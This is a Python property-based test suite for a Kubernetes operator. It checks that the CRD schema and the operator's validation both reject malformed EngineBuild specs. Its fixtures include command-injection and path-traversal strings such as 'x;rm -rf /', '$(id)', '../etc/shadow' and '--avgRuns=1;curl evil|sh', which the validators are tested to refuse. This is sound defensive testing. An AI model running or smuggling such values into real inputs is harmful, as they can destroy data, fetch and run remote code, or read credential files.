"""Property-based tests: the CRD (schema + CEL, as the API server admits) and the operator's own
validation (parse_spec + operator/validation.py) agree on generated EngineBuild specs.

Hypothesis generates specs field by field from pools that mix valid values, values just past a
limit, wrong types, hostile strings (`..`, other buckets, shell metacharacters, trailing newlines)
and unknown fields, nested at every level. For each spec:

- no crash: the operator raises only InvalidSpec (a kopf.PermanentError), the builder only SpecError;
- the CRD rejects it  =>  the operator rejects it too (the operator never builds what a real API
  server would refuse, and `enginebuild build --spec` refuses the same files);
- the operator rejects what the CRD admits only through the checks documented as operator-only
  (OPERATOR_ONLY below: they need context the schema lacks, e.g. Kubernetes naming rules of values
  that become labels, or a required `output` the builder alone does not need);
- every rejection names the field path of each problem (`spec.targets[0].name: ...`).
"""

from __future__ import annotations

import copy
import os
import re
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, event, given, settings
from hypothesis import strategies as st

from enginebuild_contract.constants import TRTEXEC_ALLOWED_EXTRA_FLAGS
from enginebuild_contract.errors import SpecError
from enginebuild_contract.spec import parse_spec
from enginebuild_operator.config import OperatorConfig
from enginebuild_operator.validation import InvalidSpec, validate
from plugins.crdcheck import admission_errors, apply_defaults, load_crd, openapi_schema

# Field paths of operator-only checks (operator/validation.py), documented in docs/reliability.md.
OPERATOR_ONLY = re.compile(
    r"^(metadata\.name|spec\.output|spec\.output\.secretRef\.name|spec\.image|spec\.serviceAccountName"
    r"|spec\.imagePullSecrets\[\d+\]\.name|spec\.targets\[\d+\]\.(gpuProduct|nodeSelector\..*|tolerations.*"
    r"|resources.*|priorityClassName|runtimeClassName)|spec\.model\.(checkpoint|config)|spec\.calibration\.source):"
)
# `spec.targets[0].name: why; fix` (keys are user text, so only the root and a separator are fixed)
PROBLEM_LINE = re.compile(r"^(spec|metadata)([.\[].*)?: .+", re.S)

CONFIG = OperatorConfig(allow_local_paths=True)  # the dev stack; cluster mode adds one documented check
CONFIG_CLUSTER = OperatorConfig(allow_local_paths=False)

# ---- value pools ---------------------------------------------------------------------------------
# Each field draws a valid value most of the time, else one of its own invalid values (just past a
# limit, a near-miss), a wrong type, or a hostile string. About a third of the specs come out fully
# valid, so a single bad value decides most verdicts.

HOSTILE_TEXT = [
    "", " ", "..", "../x", "a/../b", "/etc/passwd", "s3://other-bucket/x", "s3://Bad_Bucket/x", "s3://ab",
    "s3://bucket\n", "abc\n", "x;rm -rf /", "$(id)", "`id`", "a|b", "ü", "\x00", "a" * 300,
]
wrong_type = st.one_of(
    st.none(), st.booleans(), st.sampled_from([0.5, -3.25, 1e300]), st.text(max_size=5),
    st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=3), st.integers(), max_size=2))
hostile = st.sampled_from(HOSTILE_TEXT)


def field(valid: st.SearchStrategy[Any], invalid: st.SearchStrategy[Any] | None = None) -> st.SearchStrategy[Any]:
    bad = st.one_of(wrong_type, hostile) if invalid is None else st.one_of(invalid, invalid, wrong_type, hostile)
    return st.integers(0, 15).flatmap(lambda i: bad if i == 0 else valid)


def obj(required: dict[str, st.SearchStrategy[Any]], optional: dict[str, st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """A mapping with its known fields; now and then an unknown one (a typo) or not a mapping at all."""
    extra = st.dictionaries(st.sampled_from(["batchsize", "Name", "unknown", "minCosine "]), st.integers(), min_size=1, max_size=1)
    base = st.fixed_dictionaries(required, optional=optional)
    with_extra = st.tuples(base, extra).map(lambda t: {**t[0], **t[1]})
    return st.integers(0, 29).flatmap(lambda i: with_extra if i == 0 else wrong_type if i == 1 else base)


def int_field(lo: int, hi: int) -> st.SearchStrategy[Any]:
    return field(st.integers(lo, min(hi, lo + 5000)) | st.sampled_from([lo, hi]),
                 st.sampled_from([lo - 1, hi + 1, -(2**40), 2**40]))


good_locations = st.sampled_from(["s3://models/clip/ckpt.pt", "s3://my.bucket-1/a/b.safetensors", "/data/ckpt.pt",
                                  "ckpt.pt", "s3://models/a..b/c"])
bad_locations = st.sampled_from(["http://x/y", "s3://models/../x", "s3://models/a/../../b", "s3:///nobucket",
                                 "file:///etc/passwd", "s3://models/x\n", "a/../../etc/shadow", "x" * 1025])
locations = field(good_locations, bad_locations)
flags = st.sampled_from(sorted(TRTEXEC_ALLOWED_EXTRA_FLAGS))
extra_args = field(st.lists(flags | flags.map(lambda f: f + "=2") | flags.map(lambda f: f + "=a:b,c.d"), max_size=4),
                   st.lists(st.sampled_from([
                       "--saveEngine=/tmp/x", "--onnx=evil.onnx", "--avgRuns=1;id", "--threads=$(id)",
                       "--streams=1 --saveEngine=x", "--avgRuns=`id`", "--useSpinWait\n", "-v", "--sparsity=enable&",
                       "--avgRuns=" + "9" * 300]), min_size=1, max_size=2))
label_value = field(st.sampled_from(["NVIDIA-H100-80GB-HBM3", "NVIDIA-L4", "Tesla-T4.x_1"]),
                    st.sampled_from(["", "bad value", "-x", "x" * 64, "NVIDIA-H100\n"]))
target = obj(
    {"name": field(st.sampled_from(["h100", "l4", "a-b", "x" * 40]), st.sampled_from(["H100", "-x", "x" * 41, "a_b", "abc\n"])),
     "gpuProduct": label_value},
    {"nodeSelector": field(st.dictionaries(st.sampled_from(["pool", "nvidia.com/gpu.product"]), label_value, max_size=2)),
     "tolerations": field(st.lists(st.just({"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}), max_size=1),
                          st.lists(st.sampled_from([{"operator": "Maybe"}, {"key": "k", "effect": "Sometimes"}, 3]),
                                   min_size=1, max_size=2)),
     "resources": field(st.just({"limits": {"nvidia.com/gpu": "1", "memory": "16Gi"}}),
                        st.sampled_from([{"limits": {"nvidia.com/gpu": "0.5"}}, {"limits": {"memory": "lots"}}, {"claims": []}])),
     "priorityClassName": field(st.just("high"), st.just("Not_Valid")),
     "runtimeClassName": field(st.just("nvidia"), st.just("Nvidia!"))},
)
output = obj({"uri": field(st.sampled_from(["s3://engines/prod", "s3://e-1/x/y"]), bad_locations | good_locations)},
             {"secretRef": obj({"name": field(st.just("s3-creds"), st.just("Bad_Name"))}, {})})
spec_strategy = obj(
    {"model": obj({"architecture": field(st.sampled_from(["ViT-B-32", "ViT-L-14"]), st.just(""))},
                  {"config": locations, "checkpoint": locations}),
     # Optional in the CRD (the builder alone can run without it), required by the operator.
     "output": st.integers(0, 15).flatmap(lambda i: st.just(None) if i == 0 else output)},
    {
        "encoders": field(st.sampled_from([["image"], ["text"], ["image", "text"]]),
                          st.sampled_from([[], ["image", "image"], ["audio"], ["image", "text", "image"]])),
        "batchSize": int_field(1, 4096),
        "dynamicBatch": field(obj({"min": int_field(1, 4096), "opt": int_field(1, 4096), "max": int_field(1, 4096)}, {})),
        "calibration": obj({}, {"source": field(st.just("synthetic") | good_locations, bad_locations),
                                "samples": int_field(1, 100_000), "seed": int_field(0, 2**31)}),
        "accuracy": obj({}, {"minCosine": field(st.floats(0.001, 1.0) | st.just(1), st.sampled_from([0, 0.0, -0.5, 1.0001, 2])),
                             "samples": int_field(2, 10_000)}),
        "quantization": obj({}, {"format": field(st.just("fp8"), st.just("int8")),
                                 "algorithm": field(st.just("max"), st.just("awq")),
                                 "splitAttentionProjections": field(st.booleans())}),
        "export": obj({}, {"opset": int_field(20, 23)}),
        "benchmark": obj({}, {"warmUpMs": int_field(0, 600_000), "durationS": int_field(1, 3600),
                              "iterations": int_field(1, 1_000_000), "useCudaGraph": field(st.booleans()),
                              "extraArgs": extra_args}),
        "targets": field(st.lists(target, max_size=3),
                         st.just([{"name": "h100", "gpuProduct": "A"}, {"name": "h100", "gpuProduct": "B"}])),
        "image": field(st.just("registry.local/builder:1"), st.just("bad image ref")),
        "serviceAccountName": field(st.just("builder"), st.just("Bad_SA")),
        "imagePullSecrets": field(st.lists(obj({"name": field(st.just("pull"), st.just("Bad_Pull"))}, {}), max_size=2)),
        "exportOn": field(st.sampled_from(["cpu", "gpu"]), st.just("tpu")),
        "activeDeadlineSeconds": int_field(60, 604800),
        "backoffLimit": int_field(0, 10),
        "deletionPolicy": field(st.sampled_from(["Retain", "Delete"]), st.just("Orphan")),
    },
)
names = st.integers(0, 15).map(lambda i: "a" * 64 if i == 0 else "a" * 63 if i == 1 else "clip")  # API-server-valid names


def _re2_patterns(node: Any) -> Any:
    """The CRD with each schema `pattern` made to mean what it means to the API server (Go RE2: `$`
    is the end of the text). jsonschema uses Python's `re`, where `$` also matches before a final
    newline, so `h100\n` would pass a target-name pattern that a real cluster refuses."""
    if isinstance(node, dict):
        out = {k: _re2_patterns(v) for k, v in node.items()}
        pat = node.get("pattern")
        if isinstance(pat, str) and pat.endswith("$") and not pat.endswith("\\$"):
            out["pattern"] = pat[:-1] + "\\Z"
        return out
    if isinstance(node, list):
        return [_re2_patterns(v) for v in node]
    return node


CRD = _re2_patterns(load_crd())
SCHEMA = openapi_schema(CRD)


def prune_nulls(schema: dict[str, Any], value: Any) -> Any:
    """What the API server does before defaulting: a `null` in a field that is not `nullable` is
    dropped (Kubernetes docs, "Defaulting and Nullable"), so `config: null` means "absent"."""
    if isinstance(value, dict):
        props = schema.get("properties") or {}
        extra = schema.get("additionalProperties")
        out = {}
        for key, sub in value.items():
            sub_schema = props.get(key) if key in props else extra if isinstance(extra, dict) else None
            if sub is None and sub_schema is not None and not sub_schema.get("nullable"):
                continue
            out[key] = prune_nulls(sub_schema, sub) if sub_schema is not None else sub
        return out
    if isinstance(value, list) and isinstance(schema.get("items"), dict):
        return [prune_nulls(schema["items"], v) for v in value]
    return value


def crd_verdict(name: str, spec: Any) -> tuple[list[str], Any]:
    """(errors, the spec as the API server would store it: nulls pruned, defaults filled)."""
    manifest = prune_nulls(SCHEMA, {"apiVersion": "enginebuild.io/v1alpha1", "kind": "EngineBuild",
                                    "metadata": {"name": name}, "spec": spec})
    schema_errors, cel_errors = admission_errors(manifest, CRD)
    stored = apply_defaults(SCHEMA, copy.deepcopy(manifest)).get("spec")
    return schema_errors + cel_errors, stored


def operator_verdict(name: str, spec: Any, config: OperatorConfig = CONFIG) -> list[str]:
    """[] when accepted, else the problem lines of InvalidSpec; anything else raised is a crash."""
    try:
        validate(spec, name, config)
    except InvalidSpec as exc:
        # Problems are joined by "\n  " (a key may itself hold a line break: split on the joint only).
        text = str(exc).split("\nFix the spec", 1)[0].removeprefix("invalid spec:\n  ")
        return [ln for ln in text.split("\n  ") if ln.strip()]
    return []


def builder_verdict(spec: Any) -> bool:
    try:
        parse_spec(spec)
    except SpecError:
        return False
    return True


# No shrinking phase: these nested specs shrink for minutes; a failure prints the unshrunk example and its seed.
PHASES = [Phase.explicit, Phase.reuse, Phase.generate]
SETTINGS = settings(max_examples=int(os.environ.get("EB_PROPERTY_EXAMPLES", "800")), deadline=None, phases=PHASES,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@SETTINGS
@given(name=names, spec=spec_strategy)
def test_crd_and_operator_agree_on_generated_specs(name: str, spec: Any) -> None:
    crd, stored = crd_verdict(name, spec)
    # The operator only ever sees what the API server stored; a rejected spec is checked as written
    # (what `enginebuild build --spec` would read from a file).
    op = operator_verdict(name, spec if crd else stored)
    event(f"crd {'rejects' if crd else 'admits'}, operator {'rejects' if op else 'accepts'}")
    if crd:
        assert op, f"the CRD rejects {spec!r} ({crd}) but the operator accepts it"
        assert not builder_verdict(spec) or all(OPERATOR_ONLY.match(p) for p in op), (crd, op)
    else:
        unexplained = [p for p in op if not OPERATOR_ONLY.match(p)]
        assert not unexplained, f"the CRD admits {spec!r} but the operator rejects it for: {unexplained}"
    for problem in op:
        assert PROBLEM_LINE.match(problem), f"a rejection that names no field: {problem!r}"
    for problem in crd:
        assert problem.split(":", 1)[0].strip(), problem


@SETTINGS
@given(spec=spec_strategy)
def test_builder_parse_spec_never_crashes_and_names_fields(spec: Any) -> None:
    try:
        parse_spec(spec)
    except SpecError as exc:
        body = str(exc).removeprefix("invalid spec:\n  ").split("\n  ")
        for line in body:
            assert line.startswith("spec"), f"no field path in {line!r}"


@settings(max_examples=150, deadline=None, phases=PHASES, suppress_health_check=[HealthCheck.too_slow])
@given(name=names, spec=spec_strategy)
def test_cluster_mode_only_adds_the_local_path_check(name: str, spec: Any) -> None:
    """Without ENGINEBUILD_ALLOW_LOCAL_PATHS the operator also refuses local paths; nothing else changes."""
    dev, cluster = operator_verdict(name, spec, CONFIG), operator_verdict(name, spec, CONFIG_CLUSTER)
    extra = [p for p in cluster if p not in dev]
    assert all("is a local path" in p and "s3://bucket/key" in p for p in extra), extra
    if dev:
        assert cluster


# ---- explicit edge cases hypothesis found or that must stay covered ----------------------------------------

BASE = {"model": {"architecture": "ViT-B-32"}, "output": {"uri": "s3://engines/prod"}}


@pytest.mark.parametrize("patch, field", [
    ({"batchSize": True}, "spec.batchSize"),  # YAML `yes` must not become batch 1
    ({"batchSize": "128"}, "spec.batchSize"),  # a string is not an integer (the API server refuses it)
    ({"batchSize": 4097}, "spec.batchSize"),
    ({"batchSize": 0}, "spec.batchSize"),
    ({"batchSize": 2**40}, "spec.batchSize"),
    ({"output": {"uri": "s3://engines\n"}}, "spec.output.uri"),  # RE2's `$` is end of text, Python's is not
    ({"targets": [{"name": "h100\n", "gpuProduct": "NVIDIA-H100"}]}, "spec.targets[0].name"),
    ({"output": {"uri": "s3://engines/a/../../other"}}, "spec.output.uri"),
    ({"model": {"architecture": "x", "checkpoint": "s3://models/../secrets/ckpt.pt"}}, "spec.model.checkpoint"),
    ({"benchmark": {"extraArgs": ["--saveEngine=/etc/x"]}}, "spec.benchmark.extraArgs[0]"),
    ({"benchmark": {"extraArgs": ["--avgRuns=1;curl evil|sh"]}}, "spec.benchmark.extraArgs[0]"),
    ({"accuracy": {"minCosine": True}}, "spec.accuracy.minCosine"),
])
def test_hostile_values_are_refused_by_both_with_the_field(patch: dict[str, Any], field: str) -> None:
    spec = {**BASE, **patch}
    crd, _ = crd_verdict("clip", spec)
    op = operator_verdict("clip", spec)
    assert crd, f"the CRD admits {patch}"
    assert any(p.startswith(field.split("[")[0]) for p in op), (field, op)


def test_a_valid_spec_is_admitted_by_both() -> None:
    spec = {**BASE, "batchSize": 64, "dynamicBatch": {"min": 1, "opt": 64, "max": 128},
            "targets": [{"name": "h100", "gpuProduct": "NVIDIA-H100-80GB-HBM3",
                         "resources": {"limits": {"nvidia.com/gpu": "1"}}}],
            "benchmark": {"extraArgs": ["--builderOptimizationLevel=5", "--useSpinWait"]}}
    errors, stored = crd_verdict("clip", spec)
    assert errors == [] and operator_verdict("clip", spec) == [] and operator_verdict("clip", stored) == []
